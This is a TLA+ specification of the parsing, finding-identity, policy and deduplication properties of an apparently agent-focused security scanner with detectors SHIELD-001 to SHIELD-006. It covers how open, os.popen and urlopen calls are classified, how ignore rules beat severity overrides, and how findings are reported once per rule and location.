    /\ PythonParsed
    /\ args[1] = Call(<<"o", "p", "e", "n">>, <<"'", "f", ".", "t", "x", "t", "'", ",", " ", "'", "w", "'">>)

\* C26 for the path literals in which no quote is followed by w or a
C26_WriteIffWriteModeOtherPaths ==
    (/\ PythonParsed
     /\ NamesCallee(args[1].func_name, <<"o", "p", "e", "n">>)
     /\ ~StartsWith(args[1].args_str, <<"'", "a">>)
     /\ ~StartsWith(args[1].args_str, <<"'", "w">>)) =>
        /\ Len(out[1].parsed.file_operations) = 1
        /\ out[1].parsed.file_operations[1].operation = "write" <=> IsWriteMode(args[1].args_str)

\* C27: a file_operations fact is emitted for a call only when the callee's dotted name
\* is open or pathlib.Path, alone or after qualifier components; os.popen and
\* urllib.request.urlopen yield their command or network fact and no file operation.
C27_FileOperationOnlyForOpen ==
    PythonParsed =>
        /\ out[1].parsed.file_operations # <<>> =>
              \/ NamesCallee(args[1].func_name, <<"o", "p", "e", "n">>)
              \/ NamesCallee(args[1].func_name, <<"p", "a", "t", "h", "l", "i", "b", ".", "P", "a", "t", "h">>)
        /\ args[1].func_name = <<"o", "s", ".", "p", "o", "p", "e", "n">> =>
              /\ Len(out[1].parsed.commands) = 1
              /\ out[1].parsed.file_operations = <<>>
        /\ args[1].func_name = <<"u", "r", "l", "l", "i", "b", ".", "r", "e", "q", "u", "e", "s", "t", ".", "u", "r", "l", "o", "p", "e", "n">> =>
              /\ Len(out[1].parsed.network_operations) = 1
              /\ out[1].parsed.file_operations = <<>>

\* the command and network facts of os.popen and urllib.request.urlopen are emitted
C27_CommandAndNetworkFacts ==
    PythonParsed =>
        /\ args[1].func_name = <<"o", "s", ".", "p", "o", "p", "e", "n">> =>
              Len(out[1].parsed.commands) = 1
        /\ args[1].func_name = <<"u", "r", "l", "l", "i", "b", ".", "r", "e", "q", "u", "e", "s", "t", ".", "u", "r", "l", "o", "p", "e", "n">> =>
              Len(out[1].parsed.network_operations) = 1

(***************************************************************************)
(* Properties of the findings' identity.                                   *)
(***************************************************************************)
\* the finding carries the id, default severity and CWE of the detector d, a remediation
\* and a location
CarriesIdentity(f, d) ==
    /\ f.rule_id = DetectorMetadata(d).id
    /\ f.severity = DetectorMetadata(d).default_severity
    /\ f.cwe_id = DetectorMetadata(d).cwe_id
    /\ f.rule_id \in {"SHIELD-001", "SHIELD-002", "SHIELD-003", "SHIELD-004", "SHIELD-005", "SHIELD-006"}
    /\ IsSome(f.remediation)
    /\ IsSome(f.location)

\* C28: every finding of a detector's run, and so every finding RuleEngine::run returns,
\* has the rule_id, severity and cwe_id of the metadata of the detector that produced it,
\* a rule_id among SHIELD-001..SHIELD-006, a remediation and a location.
C28_FindingsCarryDetectorIdentity ==
    /\ pc = "detector" => \A i \in 1..Len(out) : CarriesIdentity(out[i], rule)
    /\ pc = "engine" =>
          \A i \in 1..Len(all_findings) :
              \E d \in 1..Len(all_detectors) :
                  /\ all_findings[i] \in
                        {DetectorRun(all_detectors[d], targets[1])[k] :
                            k \in 1..Len(DetectorRun(all_detectors[d], targets[1]))}
                  /\ CarriesIdentity(all_findings[i], all_detectors[d])

\* the engine returned findings of all six detectors
C28_Witness ==
    /\ pc = "engine"
    /\ {all_findings[i].rule_id : i \in 1..Len(all_findings)} =
          {all_detectors[d] : d \in 1..Len(all_detectors)}

(***************************************************************************)
(* Properties of a rule that is both ignored and overridden.               *)
(***************************************************************************)
IgnoredAndOverridden == policy.ignore_rules \cap DOMAIN policy.overrides

\* the findings the policy keeps, by position, and the severity each counts with
KeptPositions == {i \in 1..Len(all_findings) : all_findings[i].rule_id \notin policy.ignore_rules}

CountedSeverity(i) ==
    IF all_findings[i].rule_id \in DOMAIN policy.overrides
    THEN policy.overrides[all_findings[i].rule_id]
    ELSE all_findings[i].severity

\* C29: for a rule_id in both ignore_rules and overrides the ignore wins: apply returns no
\* finding of that rule, and evaluate counts none of them in effective_findings,
\* highest_severity or pass, whatever severity the override names.
C29_IgnoreBeatsOverride ==
    /\ pc = "applied" =>
          \A i \in 1..Len(effective_findings) :
              effective_findings[i].rule_id \notin IgnoredAndOverridden
    /\ pc = "evaluated" =>
          /\ verdict[1].effective_findings = Cardinality(KeptPositions)
          /\ verdict[1].highest_severity =
                (IF KeptPositions = {} THEN None
                 ELSE Some(CountedSeverity(CHOOSE i \in KeptPositions :
                        \A j \in KeptPositions :
                            SeverityOrd(CountedSeverity(j)) <= SeverityOrd(CountedSeverity(i)))))
          /\ verdict[1].pass <=>
                \A i \in KeptPositions :
                    SeverityOrd(CountedSeverity(i)) < SeverityOrd(policy.fail_on)

\* evaluate passed a list whose only findings belong to a rule that is ignored and
\* overridden to critical
C29_Witness ==
    /\ pc = "evaluated"
    /\ all_findings # <<>>
    /\ \A i \in 1..Len(all_findings) :
          /\ all_findings[i].rule_id \in IgnoredAndOverridden
          /\ policy.overrides[all_findings[i].rule_id] = "critical"
    /\ verdict[1].pass
    /\ verdict[1].effective_findings = 0
    /\ verdict[1].highest_severity = None

\* apply dropped a finding of a rule that is ignored and overridden
C29_ApplyWitness ==
    /\ pc = "applied"
    /\ \E i \in 1..Len(all_findings) : all_findings[i].rule_id \in IgnoredAndOverridden

(***************************************************************************)
(* Properties of the findings of a scan of a directory.                    *)
(***************************************************************************)
Scanned == pc \in {"scanned", "reported"}

ReportedPairs ==
    {<<report[1].findings[i].rule_id, report[1].findings[i].location>> :
        i \in 1..Len(report[1].findings)}

\* C30: the report of a scan holds each (rule_id, location) pair at most once, also when
\* both the MCP and the OpenClaw adapter detect the directory, and
\* verdict.effective_findings counts each pair once.
C30_PairsReportedOnce ==
    Scanned =>
        /\ \A i, j \in 1..Len(report[1].findings) :
              (/\ report[1].findings[i].rule_id = report[1].findings[j].rule_id
               /\ report[1].findings[i].location = report[1].findings[j].location) => i = j
        /\ report[1].verdict.effective_findings = Cardinality(ReportedPairs)

\* C30 for the scans in which a single adapter loaded the directory
C30_PairsReportedOnceSingleTarget ==
    (Scanned /\ Len(targets) = 1) =>
        \A i, j \in 1..Len(report[1].findings) :
            (/\ report[1].findings[i].rule_id = report[1].findings[j].rule_id
             /\ report[1].findings[i].location = report[1].findings[j].location) => i = j

\* a scan of a directory that both adapters loaded, with findings
C30_BothAdaptersScanned == Scanned /\ Len(targets) = 2 /\ report[1].findings # <<>>

====
